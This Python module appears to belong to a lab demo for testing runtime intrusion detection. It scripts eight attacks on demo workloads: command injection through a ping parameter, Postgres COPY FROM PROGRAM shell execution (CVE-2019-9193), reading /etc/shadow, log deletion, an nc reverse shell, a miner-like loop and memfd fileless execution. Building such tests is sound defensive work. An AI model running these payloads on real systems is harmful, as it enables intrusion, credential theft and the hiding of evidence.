"""The intrusions of the demo: each does the real thing and proves that it did."""

import base64
import sys
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import urllib3
from lab import Lab

from demo.errors import IntrusionFailedError
from demo.workloads import Workload

_FILES = Path(__file__).parent / "files"
_MINING_S = 4
_LISTEN_S = 10.0


@dataclass(frozen=True)
class Intrusion:
    """One thing that does not belong, on one workload."""

    name: str
    how: str
    workload: str
    act: Callable[[Lab, Workload], str]
    """Does it and returns what it saw."""
    proof: str
    """What `act` sees if and only if the intrusion happened."""

    def run(self, lab: Lab, workload: Workload) -> None:
        """Intrude, once.

        Raises:
            IntrusionFailedError: It had no effect.
        """
        saw = self.act(lab, workload)
        if self.proof not in saw:
            last = saw.strip()[-300:]
            msg = f"{self.name} on {self.workload}: expected {self.proof!r} to be seen; got {last!r}."
            raise IntrusionFailedError(msg)


def _exec(script: str) -> Callable[[Lab, Workload], str]:
    def act(_: Lab, workload: Workload) -> str:
        done = workload.pod.exec(["sh", "-c", script])
        return done.stdout + done.stderr

    return act


def _through_the_hole(command: str) -> Callable[[Lab, Workload], str]:
    def act(_: Lab, workload: Workload) -> str:
        url = f"http://{workload.pod.ip}:8000/ping?host={quote(';' + command, safe='')}"
        with urllib3.PoolManager(retries=False, timeout=30.0) as http:
            return http.request("GET", url).data.decode(errors="replace")

    return act


def _through_the_database(script: Callable[[], str]) -> Callable[[Lab, Workload], str]:
    def act(lab: Lab, workload: Workload) -> str:
        # The classic way from SQL to a shell: the server itself runs the program (CVE-2019-9193).
        packed = base64.b64encode(script().encode()).decode()
        sql = (
            "CREATE TEMP TABLE loot (line text);"
            f"COPY loot FROM PROGRAM 'echo {packed} | base64 -d | sh';"
            "SELECT line FROM loot;"
        )
        psql = lab.load("psql", "-h", workload.pod.ip, "-U", "postgres", "-At", "-c", sql, "postgres")
        return psql.wait()

    return act


def _with_listener(
    part: str, port: int, act: Callable[[Lab, Workload], str]
) -> Callable[[Lab, Workload], str]:
    def both(lab: Lab, workload: Workload) -> str:
        # In the pod's network, so that 127.0.0.1 is the same for both, but outside of its container.
        inside = ("nsenter", "-t", str(workload.pod.container.pid), "-n")
        listener = lab.load(*inside, sys.executable, str(_FILES / "listener.py"), part, str(port))
        tick, waited_s = threading.Event(), 0.0
        while "listening" not in listener.output() and waited_s < _LISTEN_S:
            tick.wait(0.05)
            waited_s += 0.05
        try:
            said = act(lab, workload)
            return said + listener.wait(_LISTEN_S)
        finally:
            listener.stop()

    return both


def _miner(port: int) -> str:
    text = (_FILES / "miner.sh").read_text()
    return text.replace("__SECONDS__", str(_MINING_S)).replace("__PORT__", str(port))


def _memfd() -> str:
    packed = base64.b64encode((_FILES / "memfd.py").read_bytes()).decode()
    return f"echo {packed} | base64 -d | python3"


INTRUSIONS = (
    Intrusion(
        "shell by exec",
        "kubectl-style exec: sh, id, ps, cat",
        "shop/web",
        _exec("id; ps; uname -a; cat /etc/passwd"),
        "uid=0(root)",
    ),
    Intrusion(
        "shell spawned by the service",
        "command injection: sh -c 'echo pong ;id; ls'",
        "shop/orders",
        _through_the_hole("id; ls -la /srv"),
        "uid=0(root)",
    ),
    Intrusion(
        "shell spawned by the service",
        "COPY … FROM PROGRAM: the server runs sh",
        "data/ledger",
        _through_the_database(lambda: "id; uname -a; ls /"),
        "uid=111(postgres)",
    ),
    Intrusion(
        "deleting logs",
        "exec: rm -f /var/log/redis/*",
        "shop/cache",
        _exec(
            "test -s /var/log/redis/redis.log && rm -f /var/log/redis/* && echo deleted; ls /var/log/redis"
        ),
        "deleted",
    ),
    Intrusion(
        "reading /etc/shadow",
        "exec: cat /etc/shadow",
        "shop/web",
        _exec("cat /etc/shadow"),
        "root:!:",
    ),
    Intrusion(
        "reverse connection",
        "command injection: nc 127.0.0.1 4444 -e sh",
        "shop/orders",
        _with_listener("shell", 4444, _through_the_hole("nc 127.0.0.1 4444 -e /bin/sh")),
        "uid=0(root)",
    ),
    Intrusion(
        "crypto-miner-like loop",
        f"COPY … FROM PROGRAM: {_MINING_S} s of hashing for a pool on loopback",
        "data/ledger",
        _with_listener("pool", 3333, _through_the_database(lambda: _miner(3333))),
        '"mining.submit"',
    ),
    Intrusion(
        "memfd execution",
        "command injection: a program that lies in memory only",
        "shop/orders",
        _through_the_hole(_memfd()),
        "/memfd:kworker",
    ),
)
"""One at a time, in this order: neighbours in it are on different workloads."""
